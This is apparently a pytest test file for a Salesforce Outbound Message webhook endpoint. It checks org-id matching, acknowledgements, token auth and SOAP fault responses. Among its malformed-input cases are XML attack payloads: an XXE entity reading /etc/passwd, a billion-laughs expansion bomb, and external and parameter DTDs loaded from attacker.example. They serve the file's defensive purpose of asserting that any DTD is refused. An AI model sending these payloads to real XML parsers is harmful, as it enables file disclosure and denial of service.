"""POST /webhooks/salesforce: Outbound Messages from the configured org, acked once stored."""

from __future__ import annotations

import logging
from typing import Any

import pytest
from defusedxml.ElementTree import fromstring

from leadbridge.connectors.salesforce.settings import SalesforceSettings
from leadbridge.model import Hint, System
from leadbridge.sandbox.salesforce.ids import checksum
from leadbridge.sandbox.salesforce.outbound import acknowledged
from leadbridge.webhooks import SalesforceHooks, hooks_from
from leadbridge.webhooks.salesforce import is_record_id, same_org
from tests.webhooks.support import (
    CONTACT,
    LEAD_A,
    LEAD_B,
    NOW,
    ORG_ID,
    Inbox,
    Served,
    envelope,
    hooks,
    serve,
)

SOAP = "{http://schemas.xmlsoap.org/soap/envelope/}"


@pytest.fixture
def app() -> Served:
    return serve(salesforce=hooks())


def test_a_message_becomes_hints_and_is_acked_after_they_are_stored(app: Served) -> None:
    body = envelope([("Lead", LEAD_A), ("Lead", LEAD_B), ("Contact", CONTACT), ("Lead", LEAD_A)])
    answer = app.salesforce(body)
    assert answer.status == 200
    assert answer.header("content-type") == "text/xml; charset=utf-8"
    assert acknowledged(answer.status, answer.body)  # the sandbox's own test of an ack
    assert app.inbox.hints == [
        Hint(System.SALESFORCE, "Lead", LEAD_A, NOW),
        Hint(System.SALESFORCE, "Lead", LEAD_B, NOW),
        Hint(System.SALESFORCE, "Contact", CONTACT, NOW),
    ]
    assert app.inbox.nudges == 1
    assert app.counted("salesforce", "accepted") == 1


@pytest.mark.parametrize(
    ("configured", "sent", "status"),
    [
        (ORG_ID, ORG_ID, 200),
        (ORG_ID[:15], ORG_ID, 200),  # configured as 15, sent as 18
        (ORG_ID, ORG_ID[:15], 200),
        (ORG_ID, ORG_ID.lower(), 403),  # the 15 are case-sensitive
        (ORG_ID, "00D5g000004XyzBEAS", 403),  # another org, with a wrong checksum
        (ORG_ID, "00D5g000004XyzB" + checksum("00D5g000004XyzB"), 403),  # another org
        (ORG_ID, ORG_ID[:15] + "AAA", 403),  # the right 15, a checksum that does not fit
        (ORG_ID, ORG_ID + "X", 403),
        (ORG_ID, "005" + ORG_ID[3:], 403),  # a user id, not an org id
    ],
)
def test_the_org_must_be_the_configured_one(configured: str, sent: str, status: int) -> None:
    served = serve(salesforce=SalesforceHooks(configured, check_org_id=True))
    answer = served.salesforce(envelope([("Lead", LEAD_A)], org_id=sent))
    assert answer.status == status
    assert bool(served.inbox.hints) == (status == 200)
    if status != 200:
        assert not acknowledged(answer.status, answer.body)
        assert served.counted("salesforce", "wrong_org") == 1


def test_without_the_org_check_any_org_is_accepted() -> None:
    served = serve(salesforce=SalesforceHooks(None, check_org_id=False))
    other = "00D5g000004XyzB" + checksum("00D5g000004XyzB")
    assert served.salesforce(envelope([("Lead", LEAD_A)], org_id=other)).status == 200
    assert [h.id for h in served.inbox.hints] == [LEAD_A]


XXE = '<!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
LAUGHS = (
    '<!DOCTYPE lolz [<!ENTITY lol "lol">'
    + "".join(f'<!ENTITY lol{n} "{("&lol" + str(n - 1) + ";") * 10}">' for n in range(1, 10))
    + "]>"
).replace("&lol0;", "&lol;")
EXTERNAL_DTD = '<!DOCTYPE foo SYSTEM "http://attacker.example/evil.dtd">'
PARAMETER = '<!DOCTYPE foo [<!ENTITY % p SYSTEM "http://attacker.example/p.dtd"> %p;]>'


@pytest.mark.parametrize("doctype", [XXE, LAUGHS, EXTERNAL_DTD, PARAMETER, "<!DOCTYPE x>"])
def test_any_dtd_is_400_before_anything_expands(app: Served, doctype: str) -> None:
    body = envelope([("Lead", LEAD_A)], doctype=doctype)
    body = body.replace(LEAD_A.encode(), b"&xxe;" if "xxe" in doctype else b"&lol9;")
    answer = app.salesforce(body)
    assert answer.status == 400
    assert app.inbox.hints == []
    assert app.counted("salesforce", "xml_forbidden") == 1
    assert b"root:" not in answer.body and b"lollol" not in answer.body


def _without(tag: str) -> bytes:
    body = envelope([("Lead", LEAD_A)]).decode()
    start = body.index(f"<{tag}")
    end = body.index(f"</{tag}>") + len(f"</{tag}>")
    return (body[:start] + body[end:]).encode()


@pytest.mark.parametrize(
    "body",
    [
        b"",
        b"<notxml",
        b"\xff\xfe<a/>",
        b"<Envelope/>",
        envelope([]),  # no Notification
        envelope([("Lead", LEAD_A)] * 101),
        envelope([("Lead", "not-an-id")]),
        envelope([("Lead", LEAD_A[:15] + "ZZZ")]),  # a checksum that does not fit
        envelope([("Lead", "")]),
        envelope([("Le ad", LEAD_A)]),
        envelope([("Lead", LEAD_A)]).replace(b'xsi:type="sf:Lead"', b""),
        envelope([("Lead", LEAD_A)]).replace(b"<sf:Id>", b"<Id>").replace(b"</sf:Id>", b"</Id>"),
        envelope([("Lead", LEAD_A)]).replace(b"soapenv:Body", b"soapenv:Bogus"),
        envelope([("Lead", LEAD_A)]).replace(b"2005/09/outbound", b"2005/09/inbound"),
        _without("ActionId"),
        _without("OrganizationId"),
        envelope([("Lead", LEAD_A)], org_id=" "),
        envelope([("Lead", LEAD_A)]).replace(b"</notifications>", b"</notifications><x/>", 1)
        + b"<trailing/>",
    ],
)
def test_anything_not_an_outbound_message_is_400(app: Served, body: bytes) -> None:
    answer = app.salesforce(body)
    assert answer.status == 400, answer.text
    assert app.inbox.hints == []
    fault = fromstring(answer.body).find(f"{SOAP}Body/{SOAP}Fault")
    assert fault is not None and fault.findtext("faultcode") == "soapenv:Client"


def test_two_notifications_elements_are_refused(app: Served) -> None:
    body = envelope([("Lead", LEAD_A)]).decode()
    start = body.index("<notifications")
    end = body.index("</notifications>") + len("</notifications>")
    doubled = body[:end] + body[start:end].replace(LEAD_A, LEAD_B) + body[end:]
    assert app.salesforce(doubled.encode()).status == 400
    assert app.inbox.hints == []


def test_accept_failing_is_503_with_a_fault_and_no_ack() -> None:
    served = serve(salesforce=hooks(), inbox=Inbox(failing=True))
    answer = served.salesforce(envelope([("Lead", LEAD_A)]))
    assert answer.status == 503
    assert not acknowledged(200, answer.body)
    fault = fromstring(answer.body).find(f"{SOAP}Body/{SOAP}Fault")
    assert fault is not None and fault.findtext("faultcode") == "soapenv:Server"
    assert served.inbox.nudges == 0


def test_outbound_messages_off_answers_404() -> None:
    served = serve(salesforce=None)
    assert served.salesforce(envelope([("Lead", LEAD_A)])).status == 404
    assert served.inbox.hints == []


def test_hooks_need_an_org_to_check_against() -> None:
    with pytest.raises(ValueError, match="org_id"):
        SalesforceHooks(None, check_org_id=True)
    with pytest.raises(ValueError, match="00D"):
        SalesforceHooks("005000000000001", check_org_id=True)


def _settings(**push: Any) -> SalesforceSettings:
    return SalesforceSettings.model_validate(
        {
            "login_url": "https://login.salesforce.com",
            "auth": {"grant": "client_credentials", "client_id": "x", "client_secret": "y"},
            "org_id": ORG_ID,
            "objects": {"Lead": {"fields": ["Email"]}},
            "push": push,
        }
    )


def test_hooks_from_settings() -> None:
    assert hooks_from(_settings()) is None
    on = _settings(outbound_messages=True, token="t0k3n")
    assert hooks_from(on) == SalesforceHooks(ORG_ID, True, "t0k3n")
    relaxed = hooks_from(_settings(outbound_messages=True, check_org_id=False, token="t0k3n"))
    assert relaxed == SalesforceHooks(ORG_ID, False, "t0k3n")


def test_with_a_token_a_message_must_carry_it() -> None:
    """Outbound Messages are not signed: the URL configured in Salesforce carries a shared
    secret, and a message without it (or with another) is refused before it is read."""
    served = serve(salesforce=SalesforceHooks(ORG_ID, True, "t0k3n"))
    body = envelope([("Lead", LEAD_A)])
    assert served.salesforce(body).status == 401
    assert served.salesforce(body, query=b"token=wrong").status == 401
    assert served.inbox.hints == []
    assert served.salesforce(body, query=b"token=t0k3n").status == 200
    assert [hint.id for hint in served.inbox.hints] == [LEAD_A]


def test_ids_agree_with_the_sandboxs_checksum() -> None:
    for id15 in ("00Q5g000008AbCd", "0035g00000DeFgH", "zzzzzZZZZZaaaaA", "ABCDEFGHIJKLMNO"):
        assert is_record_id(id15) and is_record_id(id15 + checksum(id15))
        assert not is_record_id(id15 + ("AAB" if checksum(id15) != "AAB" else "AAC"))
    assert same_org(ORG_ID, ORG_ID[:15]) and not same_org(ORG_ID, "")


@pytest.mark.parametrize(
    ("body", "status"),
    [
        (envelope([("Lead", LEAD_A)]).replace(b'"UTF-8"', b'"x-klingon"'), 400),
        (
            envelope([("Lead", LEAD_A)]).decode().replace('"UTF-8"', '"UTF-16"').encode("utf-16"),
            200,
        ),
        (b"<a>" * 100_000 + b"</a>" * 100_000, 400),
        (envelope([("Lead", LEAD_A)] * 5000), 413),
    ],
)
def test_odd_but_harmless_xml(
    app: Served, body: bytes, status: int, caplog: pytest.LogCaptureFixture
) -> None:
    assert app.salesforce(body).status == status
    assert not [r for r in caplog.records if r.levelno >= logging.ERROR]
